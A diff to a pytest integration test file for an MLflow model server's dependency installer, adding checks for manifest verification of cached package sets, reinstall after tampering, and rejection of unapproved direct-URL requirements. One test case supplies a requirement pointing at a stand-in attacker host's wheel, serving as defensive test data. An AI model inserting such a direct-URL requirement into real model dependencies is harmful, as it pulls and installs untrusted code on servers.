@@ -4,8 +4,10 @@ Against a real MLflow registry and a package index on loopback (an air-gapped cl
 the server started as the image starts it. Covers: a scikit-learn model the image (here, the test
 environment) already satisfies installs nothing; a pyfunc importing a package the image lacks gets
 the pinned version from the index; a second server with the same cache and index neither resolves nor
-downloads, and one of another index resolves anew; a requirement the index lacks and a Python of
-another minor each end the process with exit 1 and a termination message naming what failed.
+downloads, and one of another index resolves anew; nothing is written into an installed set after
+the install (no bytecode), and a set changed since is installed again; a requirement the index lacks, a
+direct URL the operator does not allow and a Python of another minor each end the process with exit 1
+and a termination message naming what failed in the server's words (never the model's lines).
 """
 
 from __future__ import annotations
@@ -17,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from aliasroll.serving.dependencies import verify_manifest
 from mlflowserver import MlflowServer
 from support.package_index import PackageIndex, make_wheel
 from support.served import ServedProcess
@@ -143,8 +146,11 @@ def test_a_package_the_image_lacks_is_installed_at_its_pinned_version(
         asked = len(index.requests)
     finally:
         first.stop()
-    # What the first server imported of the installed packages is compiled in the cache, for the next.
-    assert list(cache.glob("envs/*/aliasroll_probe/__pycache__/__init__.cpython-*.pyc"))
+    # Nothing was written into the set after uv installed it (review finding 2: a .pyc another pod
+    # imports is code nobody checked): its files are the manifest's.
+    (installed,) = cache.glob("envs/*/.manifest")
+    assert not list(cache.glob("envs/*/aliasroll_probe/__pycache__"))
+    assert verify_manifest(installed.parent) is None
     # A second pod of the node: the cache has the resolution and the packages; the index is not asked,
     # neither a project page nor a file.
     second = _serve(
@@ -161,6 +167,22 @@ def test_a_package_the_image_lacks_is_installed_at_its_pinned_version(
         assert len(index.requests) == asked
     finally:
         second.stop()
+    # A set changed after its install is not imported: installed again from the index.
+    module = installed.parent / "aliasroll_probe" / "__init__.py"
+    module.write_text('VERSION = "planted"\n')
+    changed = _serve(
+        probe_uri,
+        mlflow_server,
+        workdir,
+        UV_INDEX_URL=index.url(),
+        ALIASROLL_DEPENDENCY_CACHE=str(cache),
+    )
+    try:
+        changed.wait_until("/ready")
+        assert changed.post({"dataframe_records": [{"x": "c"}]}).json() == {"predictions": ["1.0:c"]}
+        assert "does not match its manifest" in changed.log()
+    finally:
+        changed.stop()
     # Another index can resolve otherwise: a pod installing from it does not take this resolution.
     third = _serve(
         probe_uri,
@@ -200,6 +222,17 @@ def test_dependencies_image_installs_nothing(
             id="requirement-the-index-lacks",
         ),
         pytest.param(
+            "direct",
+            {
+                "pip_requirements": [
+                    "mlflow-skinny",
+                    "evil @ https://attacker.example/evil-1.0-py3-none-any.whl",
+                ]
+            },
+            ["evil: a direct reference", "ALIASROLL_DEPENDENCY_DIRECT_REFERENCES"],
+            id="review-8-a-direct-url-the-operator-does-not-allow",
+        ),
+        pytest.param(
             "python",
             {"python": "3.9.18"},
             ["logged under Python 3.9.18", f"runs Python {sys.version_info.major}.{sys.version_info.minor}"],
@@ -228,5 +261,7 @@ def test_an_environment_that_cannot_be_honoured_exits_1_with_a_termination_messa
             assert part in message, server.log()
         if case == "missing":
             assert index.url() in message
+        assert "attacker.example" not in message
+        assert "Because" not in message, "uv's own words stay in the log"
     finally:
         server.stop()
